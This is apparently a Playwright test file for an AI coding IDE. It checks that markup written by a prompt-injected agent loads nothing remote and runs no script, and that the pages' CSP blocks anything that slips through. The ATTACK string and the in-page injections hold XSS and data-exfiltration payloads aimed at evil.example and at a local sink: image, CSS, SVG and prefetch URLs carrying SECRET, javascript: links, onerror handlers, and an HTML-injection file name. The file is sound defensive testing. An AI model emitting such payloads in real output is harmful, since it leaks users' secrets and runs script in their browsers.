// What the agent writes, rendered in the IDE as a prompt-injected model would write it: remote
// images in every markdown spelling, raw HTML, script links, and a file name made of HTML in the
// tree, a tab and a tool card. Nothing may leave for the model's host and no script may run; the
// page's Content-Security-Policy (server/http/page-csp.ts) blocks what a renderer would let slip.
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { call, card, expect, openNewSession, say, send, test, writeWorkspaceFile } from "./fixtures";

const EVIL = "evil.example";
const ATTACK = [
  "Done. ![pixel](http://evil.example/md-img?d=SECRET) and ![ref][r]",
  "",
  "[r]: https://evil.example/ref-img?d=SECRET",
  "",
  '<img src="http://evil.example/raw-img?d=SECRET" onerror="alert(1)">',
  '<img srcset="http://evil.example/srcset?d=SECRET 1x" src="x">',
  '<div style="background:url(http://evil.example/css?d=SECRET)">styled</div>',
  '<link rel="prefetch" href="http://evil.example/prefetch?d=SECRET">',
  "<style>@import url(http://evil.example/import?d=SECRET);</style>",
  '<svg><image href="http://evil.example/svg?d=SECRET"/></svg>',
  "<script>alert(2)</script>",
  "",
  "<http://evil.example/autolink?d=SECRET> [js](javascript:alert(3)) [data](data:text/html,<script>alert(4)</script>)",
  "[vb](vbscript:msgbox(5)) [spaced]( JaVaScRiPt:alert(6)) [tab](java\tscript:alert(7))",
].join("\n");
const FILE = `"><img src=x onerror=alert(8)>.ts`;

test("agent-written markdown, HTML and file names load nothing remote and run no script", async ({ page, model }) => {
  const dialogs: string[] = [];
  page.on("dialog", (d) => void (dialogs.push(d.message()), d.dismiss()));
  const evil: string[] = [];
  page.on("request", (r) => void (r.url().includes(EVIL) && evil.push(r.url())));
  writeWorkspaceFile(FILE, "export const x = 1;\n");
  model.script(call("read_file", { path: FILE }), say(ATTACK));
  await openNewSession(page);
  await send(page, "Summarise the README.");
  await expect(card(page, "read_file")).toHaveAttribute("data-status", "succeeded");
  await expect(card(page, "read_file")).toContainText("onerror=alert(8)");
  const reply = page.getByTestId("msg-assistant").last();
  await expect(reply).toContainText("Done.");
  await expect(reply).toContainText("[image: pixel · evil.example]");
  await expect(reply).toContainText("<img src=");
  await expect(reply.locator("img, svg image, link, style, script, iframe")).toHaveCount(0);
  for (const href of await reply.locator("a").evaluateAll((as) => as.map((a) => a.getAttribute("href") ?? ""))) {
    expect(href).toMatch(/^(https?:|mailto:)/);
  }
  const file = page.locator(`[data-testid="tree-item"][data-path="${FILE.replace(/"/g, '\\"')}"]`);
  await expect(file).toContainText("onerror");
  await file.click();
  await expect(page.locator('[data-testid="editor-tab"]').last()).toContainText("onerror");
  await page.waitForTimeout(500);
  expect(await page.locator("img[src='x']").count()).toBe(0);
  expect(dialogs).toEqual([]);
  expect(evil).toEqual([]);
});

test("the IDE's pages send a CSP that blocks remote images and frames even if a renderer slips", async ({ page }) => {
  // The model's host, here on this machine so that a request that gets out is seen arriving.
  const hits: string[] = [];
  const sink = createServer((req, res) => void (hits.push(req.url ?? ""), res.end("ok")));
  await new Promise<void>((r) => sink.listen(0, "127.0.0.1", r));
  const origin = `http://127.0.0.1:${(sink.address() as AddressInfo).port}`;
  try {
    await openNewSession(page);
    const response = await page.reload();
    const headers = response!.headers();
    const csp = headers["content-security-policy"] ?? "";
    expect(csp).toContain("img-src 'self' data: blob:");
    expect(csp).toContain("frame-ancestors 'self'");
    expect(csp).toContain("object-src 'none'");
    expect(headers["x-content-type-options"]).toBe("nosniff");
    expect(headers["referrer-policy"]).toBe("no-referrer");
    await expect(page.getByTestId("file-tree")).toBeVisible();
    // As if a renderer had let HTML through: the browser itself must refuse every fetch.
    const blocked = await page.evaluate(async (sinkOrigin) => {
      const seen: string[] = [];
      document.addEventListener("securitypolicyviolation", (e) => seen.push(`${e.effectiveDirective} ${e.blockedURI}`));
      const div = document.createElement("div");
      div.innerHTML = [
        `<img src="${sinkOrigin}/slipped-img?d=SECRET">`,
        `<img srcset="${sinkOrigin}/slipped-srcset 1x">`,
        `<div style="width:9px;height:9px;background:url(${sinkOrigin}/slipped-css)"></div>`,
        `<iframe src="${sinkOrigin}/slipped-frame"></iframe>`,
        `<object data="${sinkOrigin}/slipped-object"></object>`,
      ].join("");
      document.body.append(div);
      await fetch(`${sinkOrigin}/slipped-fetch`).catch(() => undefined);
      await new Promise((r) => setTimeout(r, 1500));
      div.remove();
      return seen.join("\n");
    }, origin);
    expect(blocked).toContain(`img-src ${origin}/slipped-img?d=SECRET`);
    expect(blocked).toContain(`connect-src ${origin}/slipped-fetch`);
    expect(blocked).toContain(`frame-src ${origin}`);
    expect(hits).toEqual([]);
  } finally {
    sink.close();
  }
});

test("only the page's own scripts run: an inline script or handler that slipped in is refused", async ({ page }) => {
  const violations: string[] = [];
  page.on("console", (m) => void (/Content Security Policy/.test(m.text()) && violations.push(m.text())));
  const nonces: string[] = [];
  // Every kind of page, the ones that could once be prerendered included: each answer has a
  // nonce of its own, and the page's own scripts (hydration, Next's payload) all carry it.
  for (const path of ["/", "/settings/git", "/settings/policy", "/signin"]) {
    const response = await page.goto(path);
    const scriptSrc = (response!.headers()["content-security-policy"] ?? "")
      .split("; ")
      .find((d) => d.startsWith("script-src "))!;
    expect(scriptSrc).not.toContain("'unsafe-inline'");
    nonces.push(/'nonce-([^']+)'/.exec(scriptSrc)![1]);
    await page.waitForLoadState("networkidle");
  }
  expect(new Set(nonces).size).toBe(nonces.length);
  expect(violations).toEqual([]);

  await openNewSession(page);
  await expect(page.getByTestId("file-tree")).toBeVisible();
  const ran = await page.evaluate(async () => {
    const seen: string[] = [];
    document.addEventListener("securitypolicyviolation", (e) => seen.push(e.effectiveDirective));
    const w = window as unknown as Record<string, number>;
    const script = document.createElement("script");
    script.textContent = "window.slippedScript = 1";
    document.body.append(script);
    const div = document.createElement("div");
    div.innerHTML =
      '<img src="data:," onerror="window.slippedHandler = 1"><a id="js" href="javascript:window.slippedLink=1">x</a>';
    document.body.append(div);
    document.getElementById("js")!.click();
    await new Promise((r) => setTimeout(r, 800));
    div.remove();
    return { script: w.slippedScript, handler: w.slippedHandler, link: w.slippedLink, seen: seen.sort() };
  });
  expect(ran.script).toBeUndefined();
  expect(ran.handler).toBeUndefined();
  expect(ran.link).toBeUndefined();
  expect(ran.seen).toContain("script-src-elem");
  expect(ran.seen).toContain("script-src-attr");
});
